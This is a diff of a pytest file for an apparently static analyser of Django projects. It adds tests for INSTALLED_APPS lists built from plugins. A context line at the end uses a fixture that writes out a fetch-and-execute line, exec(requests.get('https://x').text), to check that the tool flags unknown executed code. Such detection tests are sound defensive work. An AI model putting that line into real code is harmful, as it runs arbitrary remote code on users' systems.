@@ -169,6 +169,30 @@ def test_a_model_names_the_library_s_model_whose_columns_are_not_known(project):
     assert found == [("depot/models.py", 6)]
 
 
+def test_a_list_of_apps_to_which_unknown_ones_are_added_keeps_the_known(project):
+    settings = """
+        import plugins
+        INSTALLED_APPS = sorted(set().union(*(["depot"], *[one.apps for one in plugins.found()])))
+        """
+    config = """
+        from django.apps import AppConfig
+        class Depot(AppConfig):
+            name = "depot"
+            label = "harbour"
+        """
+    files = {**MANAGED, **DEPOT, "depot/settings.py": settings, "depot/apps.py": config}
+    assert tables(project(files).system) == {"harbour_crate"}
+
+
+def test_a_list_of_apps_of_which_only_a_library_is_known_is_said(project):
+    settings = """
+        import plugins
+        INSTALLED_APPS = plugins.apps() + ["debug_toolbar"]
+        """
+    system = project({**MANAGED, **DEPOT, "depot/settings.py": settings}).system
+    assert "installed-apps-unknown" in codes(system)
+
+
 def test_code_that_is_executed_and_not_known_is_said(project):
     settings = "import requests\nexec(requests.get('https://x').text)\n" + BASE
     system = project({**MANAGED, "depot/settings.py": settings, **DEPOT}).system
